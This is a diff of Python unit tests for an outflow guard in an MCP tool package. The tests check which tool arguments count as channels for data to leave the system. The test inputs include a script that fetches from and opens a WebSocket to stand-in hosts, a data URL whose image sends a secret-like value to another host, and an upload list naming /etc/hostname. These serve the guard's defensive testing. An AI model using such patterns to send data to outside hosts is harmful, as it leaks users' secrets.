@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 import re
 import time
 from pathlib import Path
@@ -11,6 +12,7 @@ import pytest
 
 from tests.unit.tools.outflow.corpus import TOOLS, Call, Flow, Show, play
 from viewpoint_mcp.config.secrets import Secrets
+from viewpoint_mcp.files.file_access import FileAccess
 from viewpoint_mcp.tools.core.argument_errors import accepts_secret_name
 from viewpoint_mcp.tools.guards.outflow.canonical_text import canonicalize
 from viewpoint_mcp.tools.guards.outflow.decoding import read_in_all_ways
@@ -102,17 +104,33 @@ def test_each_argument_that_takes_a_secret_is_a_sink() -> None:
                 assert field.name in tool.sinks, tool.name
 
 
-def test_a_script_gives_to_its_page_and_to_the_addresses_in_it(tmp_path: Path) -> None:
+@pytest.fixture
+def files(tmp_path: Path) -> FileAccess:
+    """Access to the files of a directory, which the test may fill."""
+    return FileAccess(tmp_path, tmp_path, tmp_path)
+
+
+def test_of_an_upload_only_text_files_that_may_be_read_are_sinks(files: FileAccess) -> None:
+    (files.working_dir / "notes.txt").write_text("481733")
+    (files.working_dir / "picture").write_bytes(b"4817\0")
+    os.mkfifo(files.working_dir / "pipe")  # without a writer, reading it would never end
+    paths = ["notes.txt", "picture", "pipe", "a\0", ".", "missing", "/etc/hostname"]
+    args = TOOLS["file_upload"].parse({"paths": paths})
+    sinks = list_sinks(TOOLS["file_upload"], args, "https://a.test/", files)
+    assert [each.text for each in sinks] == ["481733"]
+
+
+def test_a_script_gives_to_its_page_and_to_the_addresses_in_it(files: FileAccess) -> None:
     source = "fetch('//b.test/x'); new WebSocket('wss://c.test:8080')"
     args = TOOLS["evaluate"].parse({"function": source})
-    sinks = list_sinks(TOOLS["evaluate"], args, "https://a.test/", tmp_path)
+    sinks = list_sinks(TOOLS["evaluate"], args, "https://a.test/", files)
     assert [find_site(each.destination) for each in sinks] == ["a.test", "b.test", "c.test"]
 
 
-def test_a_page_in_a_data_url_gives_to_the_addresses_in_it(tmp_path: Path) -> None:
+def test_a_page_in_a_data_url_gives_to_the_addresses_in_it(files: FileAccess) -> None:
     url = "data:text/html,<img src='https://b.test/?481733'>"
     args = TOOLS["navigate"].parse({"url": url})
-    sinks = list_sinks(TOOLS["navigate"], args, "https://a.test/", tmp_path)
+    sinks = list_sinks(TOOLS["navigate"], args, "https://a.test/", files)
     assert "b.test" in [find_site(each.destination) for each in sinks]
 
 
@@ -126,10 +144,10 @@ def test_a_page_in_a_data_url_gives_to_the_addresses_in_it(tmp_path: Path) -> No
     ],
 )
 def test_a_message_names_the_address_that_is_opened(
-    given: str, opened: str, tmp_path: Path
+    given: str, opened: str, files: FileAccess
 ) -> None:
     args = TOOLS["navigate"].parse({"url": given})
-    (sink,) = list_sinks(TOOLS["navigate"], args, "https://a.test/", tmp_path)
+    (sink,) = list_sinks(TOOLS["navigate"], args, "https://a.test/", files)
     assert sink.destination == opened
 
 
